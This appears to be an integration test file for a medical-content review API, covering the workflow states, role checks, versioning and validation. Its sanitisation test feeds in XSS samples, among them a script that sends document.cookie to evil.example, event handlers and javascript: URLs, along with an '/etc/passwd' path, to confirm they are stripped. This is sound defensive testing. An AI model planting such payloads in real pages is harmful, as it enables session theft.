/**
 * Content authoring and MLR review over HTTP: the state machine, forbidden transitions, self-review,
 * rejection with a comment, editing and versions, sanitised bodies, validation, role checks on
 * every admin content route, history, and the console list.
 */
import { STAFF_ROLES, type StaffRole } from '@hcp360/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeDoctor, makeStaff, type TestDoctor, type TestStaff } from './factories.js';
import { startStack, type Stack } from './harness.js';

let stack: Stack;
let marketing: TestStaff;
let medical: TestStaff;
let compliance: TestStaff;
let admin: TestStaff;
beforeAll(async () => {
  stack = await startStack();
  [marketing, medical, compliance, admin] = await Promise.all([makeStaff(stack, 'marketing'), makeStaff(stack, 'medical'), makeStaff(stack, 'compliance'), makeStaff(stack, 'admin')]);
});
afterAll(() => stack.close());

const MEDIA_IMG = '/media/0123456789abcdef0123456789abcdef.png';
const article = (over: Record<string, unknown> = {}) => ({
  type: 'article',
  title: '心力衰竭"新四联"治疗要点',
  summary: '四类基石药物的启动与滴定',
  body: '<h2>要点</h2><p>尽早启动四类基石药物。</p>',
  topics: ['heart_failure'],
  rxOnly: false,
  ...over,
});

async function create(over: Record<string, unknown> = {}, token = marketing.token): Promise<string> {
  const res = await stack.http.post('/api/admin/content', article(over), token);
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body.id;
}
const act = (id: string, action: string, token: string, body: unknown = {}) => stack.http.post(`/api/admin/content/${id}/${action}`, body, token);
async function step(id: string, action: string, token: string, body: unknown = {}) {
  const res = await act(id, action, token, body);
  expect(res.status, `${action}: ${JSON.stringify(res.body)}`).toBe(200);
  return res.body;
}
const view = async (id: string) => (await stack.http.get(`/api/admin/content/${id}`, admin.token)).body;

/** An item brought to `state` through the API. */
async function itemIn(state: 'draft' | 'in_review' | 'approved' | 'published' | 'archived'): Promise<string> {
  const id = await create();
  if (state === 'draft') return id;
  await step(id, 'submit', marketing.token);
  if (state === 'in_review') return id;
  await step(id, 'approve', medical.token);
  if (state === 'approved') return id;
  await step(id, 'publish', marketing.token);
  if (state === 'published') return id;
  await step(id, 'archive', marketing.token);
  return id;
}

describe('content workflow', () => {
  it('creates a draft, version 1, authored by the marketer', async () => {
    const res = await stack.http.post('/api/admin/content', article({ cover: MEDIA_IMG, priority: 70, segmentIds: [] }), marketing.token);
    expect(res.status).toBe(201);
    expect(res.body).toEqual({ id: expect.any(String), status: 'draft', version: 1 });
    const item = await view(res.body.id);
    expect(item).toMatchObject({ id: res.body.id, type: 'article', authorId: marketing.id, status: 'draft', version: 1, liveVersion: null, allowedActions: ['edit', 'submit'] });
    expect(item.versions).toEqual([
      expect.objectContaining({ version: 1, status: 'draft', title: article().title, cover: MEDIA_IMG, topics: ['heart_failure'], priority: 70, rxOnly: false, audience: { everyone: true, segmentIds: [] }, authorId: marketing.id }),
    ]);
  });

  it('takes many creations and transitions at once from several marketers: every one answered, none lost to a deadlock', async () => {
    const created = await Promise.all(Array.from({ length: 8 }, (_, i) => stack.http.post('/api/admin/content', article({ topics: ['heart_failure', 'hypertension'], segmentIds: [], title: `并发 ${i}` }), marketing.token)));
    expect(created.map((r) => r.status)).toEqual(Array(8).fill(201));
    const submitted = await Promise.all(created.map((r) => stack.http.post(`/api/admin/content/${r.body.id}/submit`, {}, marketing.token)));
    expect(submitted.map((r) => r.body.status)).toEqual(Array(8).fill('in_review'));
  });

  it('goes draft → in_review → approved → published → archived, answering {id, status, version} each time', async () => {
    const id = await create();
    expect(await step(id, 'submit', marketing.token)).toEqual({ id, status: 'in_review', version: 1 });
    expect(await step(id, 'approve', medical.token, { comment: '同意发布' })).toEqual({ id, status: 'approved', version: 1 });
    expect(await step(id, 'publish', marketing.token)).toEqual({ id, status: 'published', version: 1 });
    expect((await view(id)).liveVersion).toBe(1);
    expect(await step(id, 'archive', marketing.token)).toEqual({ id, status: 'archived', version: 1 });
    const item = await view(id);
    expect(item).toMatchObject({ status: 'archived', liveVersion: null, allowedActions: [] });
    expect(item.versions[0].status).toBe('archived');
  });

  it('lets compliance approve as well as medical', async () => {
    const id = await itemIn('in_review');
    expect((await step(id, 'approve', compliance.token)).status).toBe('approved');
  });

  it('publishes as scheduled when publishAt is in the future', async () => {
    const publishAt = new Date(stack.clock.now() + 3 * 24 * 3600_000).toISOString();
    const id = await create({ publishAt });
    await step(id, 'submit', marketing.token);
    await step(id, 'approve', medical.token);
    expect(await step(id, 'publish', marketing.token)).toEqual({ id, status: 'scheduled', version: 1 });
    const item = await view(id);
    expect(item).toMatchObject({ status: 'scheduled', liveVersion: null, allowedActions: ['edit', 'archive'] });
    expect(item.versions[0].liveFrom).toBe(publishAt);
  });

  const FORBIDDEN: { state: 'draft' | 'in_review' | 'approved' | 'published' | 'archived'; actions: string[]; allowed: string[] }[] = [
    { state: 'draft', actions: ['approve', 'reject', 'publish', 'archive'], allowed: ['edit', 'submit'] },
    { state: 'in_review', actions: ['submit', 'publish', 'archive'], allowed: ['approve', 'reject'] },
    { state: 'approved', actions: ['submit', 'approve', 'reject', 'archive'], allowed: ['publish', 'edit'] },
    { state: 'published', actions: ['submit', 'approve', 'reject', 'publish'], allowed: ['edit', 'archive'] },
    { state: 'archived', actions: ['submit', 'approve', 'reject', 'publish', 'archive'], allowed: [] },
  ];
  for (const { state, actions, allowed } of FORBIDDEN) {
    it(`refuses ${actions.join(', ')} on a ${state} item with 409 INVALID_TRANSITION naming the status and what is allowed`, async () => {
      const id = await itemIn(state);
      for (const action of actions) {
        const token = action === 'approve' || action === 'reject' ? medical.token : marketing.token;
        const res = await act(id, action, token, action === 'reject' ? { comment: '不通过' } : {});
        expect(res.status, `${action} on ${state}`).toBe(409);
        expect(res.body.error).toMatchObject({ code: 'INVALID_TRANSITION', details: { status: state, allowed } });
      }
    });
  }

  it('refuses an edit while the item is in review', async () => {
    const id = await itemIn('in_review');
    const res = await stack.http.put(`/api/admin/content/${id}`, article({ title: '改标题' }), marketing.token);
    expect(res.status).toBe(409);
    expect(res.body.error).toMatchObject({ code: 'INVALID_TRANSITION', details: { status: 'in_review', allowed: ['approve', 'reject'] } });
  });

  it('forbids the author to review their own item: 403 SELF_REVIEW_FORBIDDEN', async () => {
    const author = await makeStaff(stack, 'marketing');
    const id = await create({}, author.token);
    await step(id, 'submit', author.token);
    // The author later moves to the compliance team.
    await stack.deps.pool.query("UPDATE staff SET role = 'compliance' WHERE id = ?", [author.id]);
    const asReviewer = (await stack.http.post('/api/auth/staff-login', { username: author.username, password: author.password })).body.token;
    for (const action of ['approve', 'reject']) {
      const res = await act(id, action, asReviewer, { comment: '自审' });
      expect(res.status).toBe(403);
      expect(res.body.error.code).toBe('SELF_REVIEW_FORBIDDEN');
    }
    expect((await view(id)).status).toBe('in_review');
  });

  it('needs a comment to reject, and sends the item back to draft with it', async () => {
    const id = await itemIn('in_review');
    const bare = await act(id, 'reject', compliance.token, {});
    expect(bare.status).toBe(400);
    expect(bare.body.error).toMatchObject({ code: 'VALIDATION_FAILED', details: [{ path: 'comment', message: 'a rejection needs a comment' }] });
    expect((await act(id, 'reject', compliance.token, { comment: '   ' })).status).toBe(400);

    expect(await step(id, 'reject', compliance.token, { comment: '请补充参考文献' })).toEqual({ id, status: 'draft', version: 1 });
    const item = await view(id);
    expect(item.status).toBe('draft');
    expect(item.versions[0].review).toEqual({ by: compliance.id, at: expect.any(String), comment: '请补充参考文献' });
    // the author fixes it in place; the comment stays visible until the next review
    await stack.http.put(`/api/admin/content/${id}`, article({ body: '<p>参考文献：……</p>' }), marketing.token);
    expect((await view(id)).versions[0].review.comment).toBe('请补充参考文献');
    expect((await step(id, 'submit', marketing.token)).status).toBe('in_review');
  });

  it('records every transition in the history: who, role, when, from, to, comment', async () => {
    const id = await itemIn('in_review');
    await step(id, 'reject', compliance.token, { comment: '表述需修改' });
    await step(id, 'submit', marketing.token);
    await step(id, 'approve', medical.token, { comment: '通过' });
    await step(id, 'publish', marketing.token);
    const res = await stack.http.get(`/api/admin/content/${id}/history`, compliance.token);
    expect(res.status).toBe(200);
    const at = expect.any(String);
    const m = { id: marketing.id, role: 'marketing' };
    expect(res.body.items).toEqual([
      { action: 'create', version: 1, from: null, to: 'draft', actor: m, comment: null, at },
      { action: 'submit', version: 1, from: 'draft', to: 'in_review', actor: m, comment: null, at },
      { action: 'reject', version: 1, from: 'in_review', to: 'draft', actor: { id: compliance.id, role: 'compliance' }, comment: '表述需修改', at },
      { action: 'submit', version: 1, from: 'draft', to: 'in_review', actor: m, comment: null, at },
      { action: 'approve', version: 1, from: 'in_review', to: 'approved', actor: { id: medical.id, role: 'medical' }, comment: '通过', at },
      { action: 'publish', version: 1, from: 'approved', to: 'published', actor: m, comment: null, at },
    ]);
    expect((await stack.http.get('/api/admin/content/999999/history', admin.token)).status).toBe(404);
  });
});

describe('editing and versions', () => {
  it('edits a draft in place', async () => {
    const id = await create();
    const res = await stack.http.put(`/api/admin/content/${id}`, article({ title: '新标题', topics: ['heart_failure', 'hypertension'] }), marketing.token);
    expect(res.body).toEqual({ id, status: 'draft', version: 1 });
    const item = await view(id);
    expect(item.versions).toHaveLength(1);
    expect(item.versions[0]).toMatchObject({ title: '新标题', topics: ['heart_failure', 'hypertension'] });
  });

  it('sends an approved item back to draft when it is edited (the approval covered the old text)', async () => {
    const id = await itemIn('approved');
    expect((await stack.http.put(`/api/admin/content/${id}`, article({ title: '改过的标题' }), marketing.token)).body).toEqual({ id, status: 'draft', version: 1 });
    const item = await view(id);
    expect(item.versions[0]).toMatchObject({ status: 'draft', title: '改过的标题', review: null });
    expect((await act(id, 'publish', marketing.token)).status).toBe(409);
  });

  it('keeps a published version immutable: an edit makes version 2 as a draft, the live version stays', async () => {
    const id = await itemIn('published');
    const res = await stack.http.put(`/api/admin/content/${id}`, article({ title: '第二版标题' }), marketing.token);
    expect(res.body).toEqual({ id, status: 'draft', version: 2 });
    const item = await view(id);
    expect(item).toMatchObject({ status: 'draft', version: 2, liveVersion: 1 });
    expect(item.allowedActions).toEqual(['edit', 'submit', 'archive']);
    expect(item.versions.map((v: { version: number; status: string; title: string }) => [v.version, v.status, v.title])).toEqual([
      [1, 'published', article().title],
      [2, 'draft', '第二版标题'],
    ]);
    // editing the new draft again changes version 2 only
    await stack.http.put(`/api/admin/content/${id}`, article({ title: '第二版标题（修订）' }), marketing.token);
    expect((await view(id)).versions.map((v: { title: string }) => v.title)).toEqual([article().title, '第二版标题（修订）']);
  });

  it('refuses to change the type of an item', async () => {
    const id = await create();
    const res = await stack.http.put(`/api/admin/content/${id}`, { ...article(), type: 'video', videoUrl: 'https://v.example.com/a.mp4' }, marketing.token);
    expect(res.status).toBe(400);
    expect(res.body.error.details).toContainEqual({ path: 'type', message: 'the type of an item cannot change (it is article)' });
  });

  it('refuses to publish once the expiry time has passed: 409 PUBLISH_WINDOW_PASSED', async () => {
    const id = await create({ expireAt: new Date(stack.clock.now() + 60_000).toISOString() });
    await step(id, 'submit', marketing.token);
    await step(id, 'approve', medical.token);
    stack.clock.advance(2 * 60_000);
    const res = await act(id, 'publish', marketing.token);
    expect(res.status).toBe(409);
    expect(res.body.error.code).toBe('PUBLISH_WINDOW_PASSED');
  });
});

describe('saving content', () => {
  it('sanitises the body on save: no script, event handler, javascript: URL, iframe or foreign image survives', async () => {
    const dirty = [
      '<h2 onclick="steal()">指南要点</h2>',
      '<p>正文<script>fetch("https://evil.example/?c="+document.cookie)</script><strong>加粗</strong></p>',
      '<img src="x" onerror="alert(1)">',
      `<img src="${MEDIA_IMG}" onerror="alert(2)" alt="图示">`,
      '<img src="https://evil.example/track.png">',
      '<a href="javascript:alert(3)">点我</a><a href="https://www.nhc.gov.cn/">卫健委</a>',
      '<iframe src="https://evil.example"></iframe><style>p{display:none}</style>',
      '<table><tr><td colspan="2" style="color:red">单元格</td></tr></table><ul><li>列表</li></ul>',
    ].join('');
    const id = await create({ body: dirty });
    const stored: string = (await view(id)).versions[0].body;
    expect(stored).not.toMatch(/script|onerror|onclick|javascript:|iframe|style|evil\.example/i);
    expect(stored).toContain('<h2>指南要点</h2>');
    expect(stored).toContain('<strong>加粗</strong>');
    expect(stored).toContain(`<img src="${MEDIA_IMG}" alt="图示" />`);
    expect(stored).toContain('<a href="https://www.nhc.gov.cn/">卫健委</a>');
    expect(stored).toContain('<td colspan="2">单元格</td>');
    expect(stored).toContain('<ul><li>列表</li></ul>');
  });

  it('refuses an article whose body is nothing but unsafe markup', async () => {
    const res = await stack.http.post('/api/admin/content', article({ body: '<script>alert(1)</script>' }), marketing.token);
    expect(res.status).toBe(400);
    expect(res.body.error.details).toEqual([{ path: 'body', message: expect.stringContaining('nothing left') }]);
  });

  it('validates the fields', async () => {
    const bad = async (over: Record<string, unknown>, path: string) => {
      const res = await stack.http.post('/api/admin/content', article(over), marketing.token);
      expect(res.status, JSON.stringify(over)).toBe(400);
      expect(res.body.error.code).toBe('VALIDATION_FAILED');
      expect(res.body.error.details.map((d: { path: string }) => d.path)).toContain(path);
    };
    await bad({ topics: [] }, 'topics');
    await bad({ topics: ['hypertension', 'diabetes', 'asthma', 'copd', 'stroke', 'obesity'] }, 'topics');
    await bad({ topics: ['not_a_topic'] }, 'topics.0');
    await bad({ priority: 101 }, 'priority');
    await bad({ body: undefined }, 'body');
    await bad({ videoUrl: 'https://v.example.com/a.mp4' }, 'videoUrl');
    await bad({ type: 'video', body: undefined }, 'videoUrl');
    await bad({ type: 'video', body: undefined, videoUrl: 'javascript:alert(1)' }, 'videoUrl');
    await bad({ cover: '/etc/passwd' }, 'cover');
    await bad({ publishAt: '2026-12-10T00:00:00Z', expireAt: '2026-12-01T00:00:00Z' }, 'expireAt');
    await bad({ publishAt: 'tomorrow' }, 'publishAt');
    await bad({ author: '1' }, '');
  });

  it('accepts a video with an http(s) URL and a default priority of 50', async () => {
    const res = await stack.http.post('/api/admin/content', { type: 'video', title: '专家访谈', videoUrl: 'https://v.example.com/a.mp4', topics: ['asthma'], rxOnly: true }, marketing.token);
    expect(res.status).toBe(201);
    expect((await view(res.body.id)).versions[0]).toMatchObject({ videoUrl: 'https://v.example.com/a.mp4', priority: 50, rxOnly: true, body: null });
  });

  it('checks that audience segments exist: 400 UNKNOWN_SEGMENT', async () => {
    const [seg] = await stack.deps.pool.query<import('mysql2').ResultSetHeader>(
      "INSERT INTO rule_definitions (kind, name, rule, created_by, created_at, updated_at) VALUES ('segment', '心内科医生', ?, 1, NOW(3), NOW(3))",
      [JSON.stringify({ attr: 'department', op: 'eq', value: '心血管内科' })],
    );
    const ok = await stack.http.post('/api/admin/content', article({ segmentIds: [String(seg.insertId)] }), marketing.token);
    expect(ok.status).toBe(201);
    expect((await view(ok.body.id)).versions[0].audience).toEqual({ everyone: false, segmentIds: [String(seg.insertId)] });
    const res = await stack.http.post('/api/admin/content', article({ segmentIds: [String(seg.insertId), '987654'] }), marketing.token);
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ code: 'UNKNOWN_SEGMENT', details: { missing: ['987654'] } });
  });
});

describe('the console list', () => {
  it('filters by status, type, topic and text, and pages with a cursor', async () => {
    const tag = `筛选${Date.now()}`;
    const a = await create({ title: `${tag} 甲`, topics: ['thyroid'] });
    const b = await itemIn('in_review');
    const c = await create({ title: `${tag} 乙`, topics: ['thyroid', 'obesity'] });
    const ids = async (query: string) => (await stack.http.get(`/api/admin/content?${query}`, medical.token)).body.items.map((i: { id: string }) => i.id);
    expect(await ids(`q=${encodeURIComponent(tag)}`)).toEqual([c, a]);
    expect(await ids(`q=${encodeURIComponent(tag)}&topic=obesity`)).toEqual([c]);
    expect(await ids('status=in_review')).toContain(b);
    expect(await ids('status=in_review')).not.toContain(a);
    expect(await ids('type=video')).not.toContain(a);
    const page1 = (await stack.http.get(`/api/admin/content?q=${encodeURIComponent(tag)}&limit=1`, medical.token)).body;
    expect(page1.items.map((i: { id: string }) => i.id)).toEqual([c]);
    expect(page1.items[0]).toMatchObject({ type: 'article', status: 'draft', version: 1, liveVersion: null, topics: ['obesity', 'thyroid'], authorId: marketing.id });
    const page2 = (await stack.http.get(`/api/admin/content?q=${encodeURIComponent(tag)}&limit=1&cursor=${page1.nextCursor}`, medical.token)).body;
    expect(page2.items.map((i: { id: string }) => i.id)).toEqual([a]);
    expect(page2.nextCursor).toBeNull();
    expect((await stack.http.get('/api/admin/content?status=bogus', medical.token)).status).toBe(400);
  });

  it('answers 404 for an unknown item and 400 for a malformed id', async () => {
    expect((await stack.http.get('/api/admin/content/999999', admin.token)).status).toBe(404);
    expect((await stack.http.get('/api/admin/content/abc', admin.token)).status).toBe(400);
    expect((await act('999999', 'submit', marketing.token)).status).toBe(404);
  });
});

describe('role checks on every admin content route', () => {
  let doctor: TestDoctor;
  const tokens = {} as Record<StaffRole, string>;
  beforeAll(async () => {
    doctor = await makeDoctor(stack, { until: 'registered' });
    for (const role of STAFF_ROLES) tokens[role] = (await makeStaff(stack, role)).token;
  });
  const READ: StaffRole[] = ['admin', 'marketing', 'compliance', 'medical'];
  const ROUTES: { method: string; path: string; body?: unknown; allowed: StaffRole[] }[] = [
    { method: 'GET', path: '/api/admin/content', allowed: READ },
    { method: 'POST', path: '/api/admin/content', body: article(), allowed: ['marketing'] },
    { method: 'GET', path: '/api/admin/content/999999', allowed: READ },
    { method: 'GET', path: '/api/admin/content/999999/history', allowed: READ },
    { method: 'PUT', path: '/api/admin/content/999999', body: article(), allowed: ['marketing'] },
    { method: 'POST', path: '/api/admin/content/999999/submit', body: {}, allowed: ['marketing'] },
    { method: 'POST', path: '/api/admin/content/999999/approve', body: {}, allowed: ['compliance', 'medical'] },
    { method: 'POST', path: '/api/admin/content/999999/reject', body: { comment: '不通过' }, allowed: ['compliance', 'medical'] },
    { method: 'POST', path: '/api/admin/content/999999/publish', body: {}, allowed: ['marketing'] },
    { method: 'POST', path: '/api/admin/content/999999/archive', body: {}, allowed: ['marketing'] },
    { method: 'POST', path: '/api/admin/uploads', allowed: ['marketing'] },
  ];
  for (const route of ROUTES) {
    it(`${route.method} ${route.path.replace(/[0-9]+/g, ':id')}: 401 without a token, 403 for doctors and roles other than ${route.allowed.join('/')}`, async () => {
      const call = (token?: string) => stack.http.request(route.method, route.path, { body: route.body, token });
      expect((await call()).status).toBe(401);
      const asDoctor = await call(doctor.token);
      expect(asDoctor.status).toBe(403);
      expect(asDoctor.body.error.code).toBe('FORBIDDEN');
      for (const role of STAFF_ROLES) {
        const res = await call(tokens[role]);
        if (route.allowed.includes(role)) expect([401, 403], `${role} should pass`).not.toContain(res.status);
        else expect(res.body.error?.code, `${role} should be refused`).toBe('FORBIDDEN');
      }
    });
  }
});
